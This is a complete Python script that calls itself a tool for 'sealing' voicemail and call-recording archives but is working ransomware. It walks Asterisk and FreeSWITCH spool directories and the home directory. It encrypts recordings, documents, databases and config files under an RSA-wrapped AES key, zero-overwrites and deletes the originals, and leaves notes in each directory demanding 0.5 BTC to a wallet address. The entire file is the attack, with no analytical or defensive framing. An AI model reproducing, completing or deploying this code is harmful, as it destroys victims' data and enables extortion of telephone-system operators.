#!/usr/bin/env python3
"""'Seal' voicemail and call-recording archives.

Walks the PBX spool and the operator's home directory, encrypts every
matching file with a per-run key, replaces the original with the sealed
copy and leaves instructions in each directory."""

import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import padding as apad
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")

TARGET_ROOTS = ["/var/spool/asterisk", "/var/lib/freeswitch/recordings", str(Path.home())]
EXTENSIONS = {".wav", ".gsm", ".mp3", ".ogg", ".pdf", ".tif", ".csv", ".docx",
              ".xlsx", ".db", ".sqlite", ".conf", ".jpg", ".png", ".txt"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "RECOVER-YOUR-RECORDINGS.txt"
NOTE = """All voicemail, recordings and documents on this PBX have been sealed.
To obtain the recovery key send 0.5 BTC to {wallet} and mail your host id
{host_id} to {contact}. Do not rename files; do not restart the server.
"""

OPERATOR_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""


def wrap_key(key: bytes) -> bytes:
    pub = serialization.load_pem_public_key(OPERATOR_PUBKEY)
    return pub.encrypt(key, apad.OAEP(mgf=apad.MGF1(hashes.SHA256()),
                                      algorithm=hashes.SHA256(), label=None))


def seal_file(path: Path, aead: AESGCM) -> bool:
    try:
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        sealed = path.with_name(path.name + SEALED_SUFFIX)
        sealed.write_bytes(nonce + aead.encrypt(nonce, data, None))
        with open(path, "r+b") as fh:  # overwrite before unlinking
            fh.write(b"\0" * len(data))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def walk_and_seal(root: str, aead: AESGCM, note: str) -> int:
    count = 0
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith((".cache", "proc"))]
        touched = False
        for fname in filenames:
            p = Path(dirpath) / fname
            if p.suffix.lower() in EXTENSIONS and not fname.endswith(SEALED_SUFFIX):
                if seal_file(p, aead):
                    count += 1
                    touched = True
        if touched:
            try:
                (Path(dirpath) / NOTE_NAME).write_text(note)
            except OSError:
                pass
    return count


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--wallet", default="bc1q9x7vmz0seal3rk0ptq5t2w8l4y6n0r3c2k8d7h")
    ap.add_argument("--contact", default="recover@protonmail.example")
    ap.add_argument("roots", nargs="*", default=TARGET_ROOTS)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = AESGCM.generate_key(bit_length=256)
    aead = AESGCM(key)
    host_id = wrap_key(key).hex()[:64]
    Path.home().joinpath(".pbx-seal.id").write_bytes(wrap_key(key))
    note = NOTE.format(wallet=args.wallet, host_id=host_id, contact=args.contact)
    del key

    total = 0
    for root in args.roots:
        if os.path.isdir(root):
            n = walk_and_seal(root, aead, note)
            log.info("%s: %d files sealed", root, n)
            total += n
    log.info("sealed %d files", total)


if __name__ == "__main__":
    main()
